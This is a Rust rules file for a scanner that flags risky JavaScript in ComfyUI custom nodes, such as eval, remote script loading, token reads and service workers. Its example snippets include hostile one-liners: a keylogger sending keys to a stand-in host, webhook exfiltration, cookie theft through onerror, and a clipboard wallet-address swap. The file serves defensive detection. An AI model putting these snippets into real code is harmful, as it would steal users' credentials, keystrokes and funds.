//! Rules about the JavaScript that a node sends to the owner's browser. It is not confined: it may
//! do there whatever ComfyUI's own page may.

use crate::scan::finding::{Category, Intent, Severity};
use crate::scan::rules::{Example, Rule};

pub(crate) const EVAL: Rule = Rule {
    id: "js-eval",
    category: Category::CodeExec,
    severity: Severity::Medium,
    intent: None,
    reason: "text is run as JavaScript",
    why: "What reaches the text runs in the owner's browser, with ComfyUI's page and its rights.",
    fix: "Use JSON.parse for data, and functions for code.",
    examples: &[
        Example::found("eval(x)"),
        Example::found("const e = window.eval; window['ev' + 'al'](x)"),
        Example::found("new Function('a', body)"),
        Example::found("setTimeout('run()', 10)"),
        Example::found("const run = eval; run(x)"),
        Example::found("const { eval: run } = window; run(x)"),
        Example::found("const s = document.createElement('script'); s.textContent = x"),
        Example::found("import(`data:text/javascript,${x}`)"),
        Example::twin("const s = document.createElement('style'); s.textContent = x"),
        Example::found("[]['filter']['constructor']('return 1')()"),
        Example::found("(async () => {}).constructor('return 1')()"),
        Example::twin("this.constructor('x'); new x.constructor('x')"),
        Example::twin("model.eval()"),
        Example::twin("setTimeout(() => run(), 10)"),
        Example::twin("(() => { const f = 'text' })(); setTimeout(f, 10)"),
        Example::twin("// eval(x)\nconst s = 'eval(x)'"),
        Example::twin("function eval2(x) {}; eval2(1)"),
    ],
};

pub(crate) const HIDDEN_EVAL: Rule = Rule {
    id: "js-hidden-code",
    category: Category::Obfuscation,
    severity: Severity::High,
    intent: None,
    reason: "encoded text is decoded and run",
    why: "Code that hides what it does has a reason to.",
    fix: "Do not use the node, or ask for the source.",
    examples: &[
        Example::found("eval(atob('YWxlcnQoMSk='))"),
        Example::found("new Function(String.fromCharCode(97, 98))()"),
        Example::found("eval(unescape('%61'))"),
        Example::twin("const s = atob(x)"),
    ],
};

pub(crate) const REMOTE_CODE: Rule = Rule {
    id: "js-remote-code",
    category: Category::CodeExec,
    severity: Severity::Medium,
    intent: None,
    reason: "code is loaded from another server",
    why: "Whoever owns the server decides what runs in the owner's browser, at every visit.",
    fix: "Put a copy into the node, so that it is pinned with it.",
    examples: &[
        Example::found("import x from 'https://esm.test/x'"),
        Example::found("export * from 'https://esm.test/x'"),
        Example::found("await import('https://esm.test/x')"),
        Example::found("importScripts('https://cdn.test/x.js')"),
        Example::found("s = document.createElement('script'); s.src = 'https://cdn.test/x.js'"),
        Example::found("navigator.serviceWorker.register('https://cdn.test/sw.js')"),
        Example::found(
            "const u = 'https://cdn.test/x'; const s = document.createElement('script'); s.src = u",
        ),
        Example::found("$.getScript('https://cdn.test/x.js')"),
        Example::found("new Blob(['importScripts(\"https://cdn.test/x.js\")'])"),
        Example::found("d.innerHTML = '<script src=https://cdn.test/x.js></script>'"),
        Example::twin("d.innerHTML = '<script src=x.js></script>'"),
        Example::twin("import { app } from '../../scripts/app.js'"),
        Example::twin("img.src = 'https://x.test/a.png'"),
    ],
};

pub(crate) const REMOTE_REQUEST: Rule = Rule {
    id: "js-remote-request",
    category: Category::Ssrf,
    severity: Severity::Low,
    intent: None,
    reason: "the owner's browser connects to another server",
    why: "comfy confines ComfyUI's connections, not the browser's.",
    fix: "Look at what is sent.",
    examples: &[
        Example::found("fetch('https://x.test/a')"),
        Example::found("fetch(`https://x.test/${id}`)"),
        Example::found("navigator.sendBeacon('https://x.test', data)"),
        Example::found("xhr.open('POST', 'http://x.test/')"),
        Example::twin("fetch('/api/prompt')"),
        Example::twin("api.fetchApi('/x')"),
        Example::twin("fetch('http://127.0.0.1:8188/x')"),
    ],
};

pub(crate) const TOKEN_READ: Rule = Rule {
    id: "js-token-read",
    category: Category::CredRead,
    severity: Severity::Medium,
    intent: None,
    reason: "cookies or stored tokens are read",
    why: "ComfyUI's page holds the keys of API nodes and the session with comfy's gateway.",
    fix: "Look at where they go.",
    examples: &[
        Example::found("document.cookie.split(';')"),
        Example::found("localStorage.getItem('auth_token')"),
        Example::found("sessionStorage['apiKey']"),
        Example::found("JSON.stringify(localStorage)"),
        Example::found("d.innerHTML = `<img src=x onerror='f(document.cookie)'>`"),
        Example::twin("JSON.stringify(localStorage.getItem('node.theme'))"),
        Example::twin("d.innerHTML = `<img src=x onerror='this.remove()'>`"),
        Example::twin("localStorage.getItem('Comfy.Settings.theme')"),
        Example::twin("document.cookie = 'a=b'"),
    ],
};

pub(crate) const CLIPBOARD_READ: Rule = Rule {
    id: "js-clipboard-read",
    category: Category::CredRead,
    severity: Severity::Low,
    intent: Some(Intent::Clipboard),
    reason: "the clipboard is read",
    why: "Passwords pass through it.",
    fix: "Look at whether the user asks for it.",
    examples: &[
        Example::found("await navigator.clipboard.readText()"),
        Example::found("navigator.clipboard.read()"),
        Example::twin("navigator.clipboard.writeText(x)"),
    ],
};

pub(crate) const WEBHOOK: Rule = Rule {
    id: "js-webhook",
    category: Category::Ssrf,
    severity: Severity::Critical,
    intent: Some(Intent::Webhook),
    reason: "data goes to a chat service",
    why: "Stolen data is sent to such addresses.",
    fix: "Do not use the node.",
    examples: &[
        Example::found("const u = 'https://discord.com/api/webhooks/1/x'"),
        Example::found("fetch(`https://api.telegram.org/bot${t}/sendMessage`)"),
        Example::twin("const u = 'https://discord.gg/comfyorg'"),
    ],
};

const fn browser(
    id: &'static str,
    category: Category,
    severity: Severity,
    text: [&'static str; 3],
    examples: &'static [Example],
) -> Rule {
    Rule {
        id,
        category,
        severity,
        intent: None,
        reason: text[0],
        why: text[1],
        fix: text[2],
        examples,
    }
}

pub(crate) const REMOTE_SOCKET: Rule = browser(
    "js-remote-socket",
    Category::Ssrf,
    Severity::Medium,
    [
        "the owner's browser keeps a connection to another server",
        "Both ends send whenever they like, for as long as the page is open.",
        "Look at what is sent and what is done with what arrives.",
    ],
    &[
        Example::found("new WebSocket('wss://x.test')"),
        Example::twin("new WebSocket(`ws://${location.host}/ws`)"),
    ],
);

pub(crate) const SERVICE_WORKER: Rule = browser(
    "js-service-worker",
    Category::Persistence,
    Severity::Medium,
    [
        "a service worker is registered",
        "It stands between the page and ComfyUI, and stays in the browser when the node is gone.",
        "Do without one; remove it in the browser's settings if it was registered.",
    ],
    &[
        Example::found("navigator.serviceWorker.register('/sw.js', { scope: '/' })"),
        Example::twin("navigator.serviceWorker.getRegistrations()"),
    ],
);

pub(crate) const REPLACED: Rule = browser(
    "js-replaced-function",
    Category::CodeExec,
    Severity::Medium,
    [
        "a function through which the page sends is replaced",
        "All that ComfyUI's page sends and receives goes through the node's function.",
        "Use ComfyUI's own hooks, such as api.addEventListener.",
    ],
    &[
        Example::found("const old = window.fetch; window.fetch = (...a) => old(...a)"),
        Example::found("Object.defineProperty(window, 'fetch', { value: f })"),
        Example::twin("node.fetch = () => fetch('/x')"),
    ],
);

pub(crate) const INSTALL_REQUEST: Rule = browser(
    "js-install-request",
    Category::PkgInstall,
    Severity::Medium,
    [
        "ComfyUI-Manager is asked to install code",
        "What is installed was chosen by the script, and runs with ComfyUI's rights.",
        "Let the user install it, or declare it in comfy.toml.",
    ],
    &[
        Example::found("api.fetchApi('/customnode/install/git_url', { method: 'POST', body: u })"),
        Example::twin("api.fetchApi('/customnode/getlist')"),
    ],
);

pub(crate) const QUEUE_REQUEST: Rule = browser(
    "js-queue-request",
    Category::CodeExec,
    Severity::Medium,
    [
        "a workflow is queued by a script",
        "It can hold any node that is installed, also one that runs code.",
        "Use app.queuePrompt(), which queues what the user sees.",
    ],
    &[
        Example::found("fetch('/prompt', { method: 'POST', body: b })"),
        Example::twin("fetch('/prompt').then(r => r.json())"),
        Example::twin("app.queuePrompt(0, 1)"),
    ],
);

pub(crate) const KEYLOGGER: Rule = Rule {
    intent: Some(Intent::Keylogger),
    ..browser(
        "js-keylogger",
        Category::CredRead,
        Severity::Critical,
        [
            "what is typed goes to another server",
            "Passwords and prompts are typed.",
            "Do not use the node.",
        ],
        &[
            Example::found(
                "document.addEventListener('keydown', e => { fetch('https://x.test/?k=' + e.key) })",
            ),
            Example::twin(
                "document.addEventListener('keydown', e => { if (e.key === 'q') fetch('/queue') })",
            ),
        ],
    )
};

pub(crate) const CLIPBOARD_SWAP: Rule = Rule {
    intent: Some(Intent::Clipboard),
    ..browser(
        "js-clipboard-swap",
        Category::CredRead,
        Severity::Critical,
        [
            "what is copied is replaced by the address of a wallet",
            "Coins are then sent to somebody else.",
            "Do not use the node.",
        ],
        &[
            Example::found(
                "document.addEventListener('copy', e => { e.clipboardData.setData('text', '0x1111111111111111111111111111111111111111') })",
            ),
            Example::twin(
                "document.addEventListener('copy', e => { e.clipboardData.setData('text', JSON.stringify(nodes)) })",
            ),
        ],
    )
};

pub(crate) const RULES: &[Rule] = &[
    EVAL,
    HIDDEN_EVAL,
    REMOTE_CODE,
    REMOTE_REQUEST,
    TOKEN_READ,
    CLIPBOARD_READ,
    WEBHOOK,
    REMOTE_SOCKET,
    SERVICE_WORKER,
    REPLACED,
    INSTALL_REQUEST,
    QUEUE_REQUEST,
    KEYLOGGER,
    CLIPBOARD_SWAP,
];
